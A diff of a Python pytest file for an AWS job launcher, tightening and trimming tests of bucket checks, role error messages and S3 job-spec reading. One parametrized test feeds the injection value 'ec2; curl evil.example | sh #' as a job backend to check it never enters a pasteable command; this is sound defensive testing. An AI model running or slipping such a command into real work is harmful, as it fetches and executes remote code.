@@ -5,17 +5,10 @@ import pytest
 from launch.aws.client import Aws
 from launch.aws.lookup import Lookups, check_bucket, missing, read_json, region_or_some, spec_of
 from launch.aws.names import Folder
-from launch.core.errors import AwsError, NoAnswer
+from launch.core.errors import AwsError
 from tests.launch.ec2.account import Account
 from tests.launch.faults import Faults, refused
 from trainer.errors import SettingsError
-
-
-def test_what_was_found_is_handed_on() -> None:
-    lookups = Lookups()
-
-    assert (lookups.required(lambda: 1, 0), lookups.optional("a price", lambda: 2, 0)) == (1, 2)
-    assert (lookups.problems, lookups.unknown) == ([], [])
 
 
 def test_what_fails_is_a_problem_if_needed_and_else_only_unknown() -> None:
@@ -24,8 +17,9 @@ def test_what_fails_is_a_problem_if_needed_and_else_only_unknown() -> None:
 
     lookups, error = Lookups(), SettingsError("nothing there")
 
-    assert (lookups.required(fail, 1), lookups.optional("a price", fail, 2)) == (1, 2)
-    assert (lookups.problems, lookups.unknown) == ([error], ["a price could not be looked up: nothing there"])
+    assert (lookups.required(lambda: 1, 0), lookups.optional("a price", lambda: 2, 0)) == (1, 2)
+    assert (lookups.required(fail, 3), lookups.optional("a price", fail, 4)) == (3, 4)
+    assert (lookups.problems, len(lookups.unknown)) == ([error], 1)
 
 
 def test_some_region_is_taken_only_where_none_is_configured(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -38,43 +32,28 @@ def test_some_region_is_taken_only_where_none_is_configured(monkeypatch: pytest.
 # ---- the bucket, and roles
 
 
-def test_a_bucket_that_is_there_is_fine(account: Account, aws: Aws) -> None:
-    check_bucket(aws, account.bucket, account.id)
-
-
 def test_a_bucket_of_another_region_is_a_problem(account: Account, aws: Aws) -> None:
     account.make_bucket("elsewhere", "eu-west-1")
 
-    with pytest.raises(AwsError) as problem:
+    check_bucket(aws, account.bucket, account.id)
+    with pytest.raises(AwsError, match=r"bucket elsewhere is in eu-west-1 .* --bucket"):
         check_bucket(aws, "elsewhere", account.id)
-    assert str(problem.value) == (
-        "bucket elsewhere is in eu-west-1 and the job would run in us-east-1; "
-        "choose a bucket in us-east-1 with --bucket."
-    )
 
 
 def test_a_bucket_of_somebody_else_is_a_problem(account: Account, aws: Aws, faults: Faults) -> None:
     """AWS refuses to look at a bucket whose owner is not who is expected, however public it is."""
     faults.on("HeadBucket", refused("403", 403, "Forbidden"))
 
-    with pytest.raises(AwsError) as problem:
+    with pytest.raises(AwsError, match=r"bucket theirs .* --bucket, .*infra/iam/launcher\.json"):
         check_bucket(aws, "theirs", "123456789012")
-    assert str(problem.value) == (
-        "bucket theirs belongs to another account, or these credentials may not read it; "
-        "choose one of 123456789012 with --bucket, or ask for the policy in infra/iam/launcher.json."
-    )
-    assert [call.params for call in account.requests if call.operation == "HeadBucket"] == [
-        {"Bucket": "theirs", "ExpectedBucketOwner": "123456789012"}
-    ]
+    assert account.asked("HeadBucket") == [{"Bucket": "theirs", "ExpectedBucketOwner": "123456789012"}]
 
 
 def test_only_what_is_missing_is_called_so() -> None:
     other = AwsError("something else", "AccessDenied")
 
     assert missing(other, "role x", "--role") is other
-    assert str(missing(AwsError("not there", "NoSuchEntity"), "role x", "--role")) == (
-        "the account has no role x; create it with python -m launch.infra up, or choose another with --role."
-    )
+    assert "no role x; " in str(missing(AwsError("not there", "NoSuchEntity"), "role x", "--role"))
 
 
 # ---- reading from S3
@@ -92,19 +71,6 @@ def test_a_file_that_cannot_be_read_is_an_error(account: Account, aws: Aws, faul
         read_json(aws, account.bucket, "k")
 
 
-def test_a_file_that_breaks_off_is_an_error(account: Account, aws: Aws, monkeypatch: pytest.MonkeyPatch) -> None:
-    from botocore.exceptions import ReadTimeoutError
-
-    def breaks_off(self: object) -> bytes:
-        raise ReadTimeoutError(endpoint_url="https://s3")
-
-    account.put_json("k", {"a": 1})
-    monkeypatch.setattr("botocore.response.StreamingBody.read", breaks_off)
-
-    with pytest.raises(NoAnswer, match=r"^no answer to s3:GetObject \(Read timeout on endpoint URL\)"):
-        read_json(aws, account.bucket, "k")
-
-
 def test_the_spec_is_the_folders_job_json(account: Account, aws: Aws) -> None:
     account.put_json("jobs/j/job.json", {"job": "j"})
 
@@ -113,8 +79,7 @@ def test_the_spec_is_the_folders_job_json(account: Account, aws: Aws) -> None:
 
 
 @pytest.mark.parametrize("backend", ["ec2; curl evil.example | sh #", "EC2", ""])
-def test_no_word_of_a_strangers_stands_in_a_command_to_paste(backend: str, account: Account, aws: Aws) -> None:
-    """Launchers share the bucket: each may write what job.json says of any job."""
+def test_a_job_of_no_backend_is_damaged_and_in_no_command_to_paste(backend: str, account: Account, aws: Aws) -> None:
     account.put_json("jobs/j/job.json", {"job": "j", "backend": backend})
 
     with pytest.raises(AwsError, match="is damaged: there is no backend") as told:
